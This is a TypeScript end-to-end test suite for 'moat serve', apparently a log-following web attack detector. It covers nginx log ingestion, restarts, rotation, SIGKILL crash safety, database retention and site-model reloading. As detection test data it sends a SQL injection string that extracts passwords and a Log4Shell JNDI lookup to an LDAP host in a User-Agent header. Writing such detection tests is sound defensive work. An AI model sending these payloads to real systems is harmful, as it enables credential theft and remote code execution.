/**
 * `moat serve` end to end: real nginx writes the access log, moat follows it, judges, stores. It is
 * restarted mid-stream, the log is rotated while it is down, and it is SIGKILLed during heavy
 * ingestion: every request must be stored exactly once.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { appendFileSync, existsSync, mkdirSync, readFileSync, renameSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { NGINX_BIN, sendRaw, startNginx, waitForLines, type NginxInstance } from "../helpers/nginx.ts";
import { serveDetail, startServe, waitFor, waitForListening } from "../helpers/serve.ts";
import { dbCounts, openReadonly } from "../helpers/db.ts";
import { tempDir } from "../helpers/tmp.ts";
import { runCli } from "../helpers/cli.ts";
import { shopLogLines } from "../helpers/site-traffic.ts";
import { readSiteMetadata } from "../../src/detect/site/model.ts";
import { siteModelBytes } from "../helpers/site-model.ts";
import { exportDenseLogisticOnnx } from "../../src/detect/onnx/dense.ts";

const describeNginx = NGINX_BIN ? describe : describe.skip;
let nginx: NginxInstance | null = null;
afterAll(() => nginx?.stop());

const get = (port: number, target: string, ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0") =>
  sendRaw(port, `GET ${target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${ua}\r\nConnection: close\r\n\r\n`);

describeNginx("moat serve with a real nginx", () => {
  test("stores every request once across a restart and a rotation, with the reasons of threats", async () => {
    nginx = await startNginx(`server { listen 127.0.0.1:{{PORT}}; access_log {{PREFIX}}/logs/access.log combined; location / { return 200 "ok\\n"; } }`);
    const dir = tempDir();
    const db = join(dir, "moat.db");
    const log = nginx.path("logs/access.log");
    let sent = 0;
    const send = async (target: string, ua?: string) => {
      await get(nginx!.port, target, ua);
      sent++;
    };

    let moat = startServe(["--log", log, "--db", db]);
    for (let i = 0; i < 30; i++) await send(`/products?id=${i}&color=red`);
    await send("/search?q=%27%20UNION%20SELECT%20password%20FROM%20users--");
    await send("/", "${jndi:ldap://198.51.100.7:1389/a}");
    await waitFor("32 stored requests", () => dbCounts(db).requests === sent);

    const sqlite = openReadonly(db);
    const threat = sqlite.query<{ attack_type: string; reasons: string; endpoint: string }, []>("select attack_type, reasons, endpoint from threats order by id").all();
    sqlite.close();
    expect(threat.map((t) => t.attack_type)).toEqual(["sqli", "log4shell"]);
    expect(JSON.parse(threat[0]!.reasons)[0]).toMatchObject({ field: "query.q", detector: "generic", name: "sqli" });
    expect(JSON.parse(threat[1]!.reasons)[0]).toMatchObject({ field: "header.user-agent", name: "log4shell" });
    // The services followed the stream: alerts for the critical threats, activities, security checks.
    await waitFor("alerts", () => {
      const s = openReadonly(db);
      const n = (s.query("select count(*) as n from alerts").get() as { n: number }).n;
      s.close();
      return n >= 2;
    });
    const services = openReadonly(db);
    expect(services.query("select type, severity, source from alerts order by id").all()).toEqual([
      // One incident per attack type from the client's network.
      { type: "critical", severity: "high", source: "127.0.0.0/24" },
      { type: "critical", severity: "high", source: "127.0.0.0/24" },
    ]);
    expect((services.query("select type from activities order by id").all() as { type: string }[]).map((a) => a.type)).toContain("service.started");
    expect((services.query("select count(*) as n from security_checks").get() as { n: number }).n).toBeGreaterThanOrEqual(5);
    services.close();

    // Graceful stop, requests while down, rotation (rename + reopen) while down, then restart.
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
    expect(moat.stderr()).toContain("msg=stopped");
    for (let i = 0; i < 10; i++) await send(`/products?id=${100 + i}&color=blue`);
    await waitForLines(log, sent);
    renameSync(log, `${log}.1`);
    await nginx.reopen();
    for (let i = 0; i < 10; i++) await send(`/products?id=${200 + i}&color=green`);
    await waitFor("the new log", () => existsSync(log));
    moat = startServe(["--log", log, "--db", db]);
    await waitFor(`${sent} stored requests`, () => dbCounts(db).requests === sent);
    await Bun.sleep(1500); // a double delivery would show up now
    expect(dbCounts(db)).toMatchObject({ requests: sent, trafficRows: sent, threats: 2 });
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
  });
});

describe("moat serve crash safety", () => {
  test("SIGKILL during heavy ingestion loses and doubles nothing", async () => {
    const dir = tempDir();
    const db = join(dir, "moat.db");
    const log = join(dir, "access.log");
    const line = (i: number) => `198.51.100.${i % 250} - - [24/Nov/2026:12:00:00 +0000] "GET /items?id=${i} HTTP/1.1" 200 12 "-" "bench/${i}"\n`;
    // Enough lines that ingestion is still under way when the poll sees it started, even on a slow machine.
    const total = 150_000;
    let body = "";
    for (let i = 0; i < total; i++) body += line(i);
    appendFileSync(log, body);
    const first = startServe(["--log", log, "--db", db]);
    await waitFor("ingestion under way", () => dbCounts(db).requests > 2000, 60_000, serveDetail(first, () => dbCounts(db)));
    first.proc.kill("SIGKILL");
    await first.proc.exited;
    const atKill = dbCounts(db).requests;
    expect(atKill).toBeLessThan(total);
    const second = startServe(["--log", log, "--db", db]);
    await waitFor(`${total} stored requests`, () => dbCounts(db).requests === total, 120_000, serveDetail(second, () => dbCounts(db)));
    await Bun.sleep(1000);
    expect(dbCounts(db)).toMatchObject({ requests: total, trafficRows: total });
    const sqlite = openReadonly(db);
    const integrity = sqlite.query<{ integrity_check: string }, []>("pragma integrity_check").get();
    const distinct = sqlite.query<{ n: number }, []>("select count(distinct user_agent) as n from traffic").get();
    sqlite.close();
    expect(integrity?.integrity_check).toBe("ok");
    expect(distinct?.n).toBe(total);
    second.proc.kill("SIGTERM");
    await second.proc.exited;
  }, 180_000);
});

describe("moat serve retention", () => {
  test("a long log streams through while the database stays under its size limit", async () => {
    const dir = tempDir();
    const db = join(dir, "moat.db");
    const log = join(dir, "access.log");
    appendFileSync(log, "");
    const moat = startServe(["--log", log, "--db", db], { MOAT_RETENTION_MAX_DB_MB: "16", MOAT_JOBS_RETENTION_CRON: "*/1 * * * * *" });
    const size = () => statSync(db, { throwIfNoEntry: false })?.size ?? 0;
    let written = 0;
    let largest = 0;
    // About 65 MB of rows (150,000 lines of ~450 bytes): four times the limit.
    for (let round = 0; round < 15; round++) {
      let chunk = "";
      for (let i = 0; i < 10_000; i++, written++) chunk += `198.51.100.${written % 250} - - [24/Nov/2026:12:00:00 +0000] "GET /items/${written}?session=${"s".repeat(300)}${written} HTTP/1.1" 200 12 "-" "ua-${written}"\n`;
      appendFileSync(log, chunk);
      await waitFor(`${written} stored`, () => dbCounts(db).requests === written, 60_000);
      largest = Math.max(largest, size());
    }
    await Bun.sleep(2500); // one more retention run
    expect(dbCounts(db).requests).toBe(written);
    expect(dbCounts(db).trafficRows).toBeLessThan(written);
    // The limit is enforced by a job (every second here), so between runs the file may grow past it by
    // what arrived meanwhile; it never comes near the 65 MB that went through.
    expect(largest).toBeLessThan(32 * 1024 * 1024);
    expect(size()).toBeLessThanOrEqual(17 * 1024 * 1024);
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
  }, 240_000);
});

describe("moat serve and the site model on disk", () => {
  test("the versions table names the live site model: the one loaded at start, then one the CLI trains while serving", async () => {
    const dir = tempDir();
    const db = join(dir, "moat.db");
    const models = join(dir, "models");
    const shop = join(dir, "shop.log");
    writeFileSync(shop, `${shopLogLines(2000, 3).join("\n")}\n`);
    const train = () => {
      expect(runCli(["train", "--from", shop, "--out", models]).code).toBe(0);
      return readSiteMetadata(readFileSync(join(models, "site.onnx")))!.version;
    };
    const live = () => {
      if (!existsSync(db)) return [];
      const sqlite = openReadonly(db);
      try {
        return sqlite.query<{ version: string }, []>("select version from model_versions where kind = 'site' and active = 1").all().map((r) => r.version);
      } catch {
        return []; // not migrated yet
      } finally {
        sqlite.close();
      }
    };
    const first = train();
    // What a `moat train` killed at the rename leaves (its pid, above pid_max, is no running process's).
    const stray = join(models, "site.onnx.2147483647.tmp");
    writeFileSync(stray, "half a model");
    const moat = startServe(["--db", db], { MOAT_DETECT_MODEL_DIR: models });
    const seen = serveDetail(moat, live);
    await waitFor(`${first} recorded as live`, () => live().join() === first, 30_000, seen);
    expect(existsSync(stray)).toBe(false);
    expect(moat.stderr()).toContain("removed a file left by an interrupted model write");
    const second = train();
    expect(second).not.toBe(first);
    await waitFor(`${second} recorded as live`, () => live().join() === second, 30_000, seen);
    // Recorded first, logged next: the line may reach the pipe a moment after the row.
    await waitFor("the reload logged", () => moat.stderr().includes("msg=\"site model reloaded\""), 10_000, seen);
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
  }, 120_000);

  test("a site model trained for another generic model (an upgrade): serve starts on the generic model alone and says why", async () => {
    const dir = tempDir();
    const models = join(dir, "models");
    mkdirSync(models);
    writeFileSync(join(models, "site.onnx"), siteModelBytes({ genericVersion: "generic-from-another-release", featurizerVersion: "1" }));
    const moat = startServe(["--db", join(dir, "moat.db")], { MOAT_DETECT_MODEL_DIR: models });
    const base = await waitForListening(moat);
    expect(moat.stderr()).toContain("site model refused: running on the generic model alone");
    expect(moat.stderr()).toContain("was trained with generic model generic-from-another-release");
    // It judges: a request is answered by the generic model alone.
    const res = await fetch(`${base}/check`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ method: "GET", path: "/search", query_params: { q: "' UNION SELECT password FROM users--" } }) });
    const verdict = (await res.json()) as { is_anomaly?: boolean; model_version?: string };
    expect(verdict.is_anomaly).toBe(true);
    expect(verdict.model_version).toMatch(/^generic-[^+]*$/);
    moat.proc.kill("SIGTERM");
    await moat.proc.exited;
    // moat doctor says so too.
    const doctor = runCli(["doctor", "--db", join(dir, "doctor.db"), "-c", "/dev/null", "--log", "/dev/null", "--port", "0", "--nginx", "127.0.0.1:1"], { env: { MOAT_DETECT_MODEL_DIR: models } });
    expect(doctor.stdout).toContain("was trained with generic model generic-from-another-release");
    expect(doctor.stdout).toContain("until then moat serve judges with the generic model alone");
  }, 120_000);

  test("a file that is no site model at all still stops serve, saying so (not an upgrade's leftover)", () => {
    const dir = tempDir();
    const models = join(dir, "models");
    mkdirSync(models);
    writeFileSync(join(models, "site.onnx"), exportDenseLogisticOnnx({ w: new Float32Array(2), b: 0 }, {}));
    const r = runCli(["serve", "--db", join(dir, "moat.db"), "--port", "0", "-c", "/dev/null"], { env: { MOAT_DETECT_MODEL_DIR: models } });
    expect(r.code).toBe(65);
    expect(r.stderr).toContain("cannot load the site model in");
    expect(r.stderr).toContain("not a Moat site model");
  }, 60_000);
});
